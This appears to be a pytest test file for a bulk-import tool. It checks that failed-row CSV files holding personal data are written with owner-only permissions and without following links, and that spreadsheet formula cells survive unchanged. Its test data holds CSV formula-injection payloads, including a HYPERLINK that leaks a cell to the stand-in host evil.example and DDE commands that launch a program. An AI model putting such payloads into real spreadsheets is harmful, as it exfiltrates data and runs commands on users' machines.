"""Files that hold people's data are for their owner, and are where they were asked for."""

from __future__ import annotations

import csv
import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest

from leavo_async.bulk.failed import write_failed
from leavo_async.bulk.rows import Row
from leavo_async.bulk.sources import open_source

from ..bulk.told_journals import REFUSED, journal_of

PERSON = {"name": "Ana", "phone": "+15555550100"}
on_posix = pytest.mark.skipif(os.name == "nt", reason="modes and links are those of POSIX")


def written(path: Path, values: dict[str, str]) -> None:
    job = path.parent.parent / f"job of {path.parent.name}"
    write_failed(path, journal_of(job, (Row(2, values), REFUSED), columns=tuple(values)))


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """For the file alone; the journal stands elsewhere."""
    made = tmp_path / "out"
    made.mkdir()
    made.chmod(0o700)  # whatever the umask
    return made


# What a spreadsheet would run

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+5511999990000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '"=1+1',
    ";=1+1",
    ",=1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("cell", FORMULAS, ids=ascii)
def test_a_cell_that_a_spreadsheet_would_run_is_written_as_it_is(cell: str, folder: Path) -> None:
    """On purpose: phones begin with +, and a mended file must import as it was; so open it as text.

    A quote before such cells, as OWASP advises, would end up in the CRM with the next import.
    """
    written(folder / "f.csv", {"name": "Ana", "note": cell})

    with (folder / "f.csv").open(newline="", encoding="utf-8") as file:
        assert cell == next(csv.DictReader(file))["note"]
    with open_source(folder / "f.csv") as source:
        assert [cell] == [row.values["note"] for row in source]


# Modes and links


@pytest.fixture(params=[0o000, 0o022, 0o077, 0o177], ids=oct)
def umask(request: pytest.FixtureRequest) -> Iterator[int]:
    before = os.umask(request.param)
    yield request.param
    os.umask(before)


@on_posix
def test_failed_rows_are_for_their_owner_alone(umask: int, folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Whatever the umask: also while they are written, and in the place of a file that all may read."""
    path, before = folder / "f.csv", os.fsync
    path.write_text("old")
    path.chmod(0o666)
    modes: list[int] = []

    def look(handle: int) -> None:
        if stat.S_ISREG(os.fstat(handle).st_mode):  # its directory is made safe, too
            modes.append(stat.S_IMODE(os.fstat(handle).st_mode))
        before(handle)

    monkeypatch.setattr(os, "fsync", look)
    written(path, PERSON)

    assert modes == [0o600]
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert [found.name for found in folder.iterdir()] == ["f.csv"]


@on_posix
@pytest.mark.parametrize("dangling", [False, True])
def test_a_symbolic_link_is_replaced_and_not_followed(dangling: bool, folder: Path) -> None:
    """Whoever can put one there could have any file overwritten, or the rows written where others read."""
    other, path = folder / "other", folder / "f.csv"
    if not dangling:
        other.write_text("precious")
        other.chmod(0o644)
    path.symlink_to(other)
    written(path, PERSON)

    assert path.is_file()
    assert not path.is_symlink()
    assert 0o600 == stat.S_IMODE(path.stat().st_mode)
    assert "Ana" in path.read_text()
    assert ([] if dangling else ["precious"]) == [found.read_text() for found in folder.iterdir() if found != path]


@on_posix
def test_a_second_name_of_the_old_file_does_not_get_the_rows(folder: Path) -> None:
    """It is a new file under the name, not new words in the old one."""
    other, path = folder / "other", folder / "f.csv"
    other.write_text("old")
    path.hardlink_to(other)
    written(path, PERSON)

    assert "old" == other.read_text()
    assert "Ana" in path.read_text()
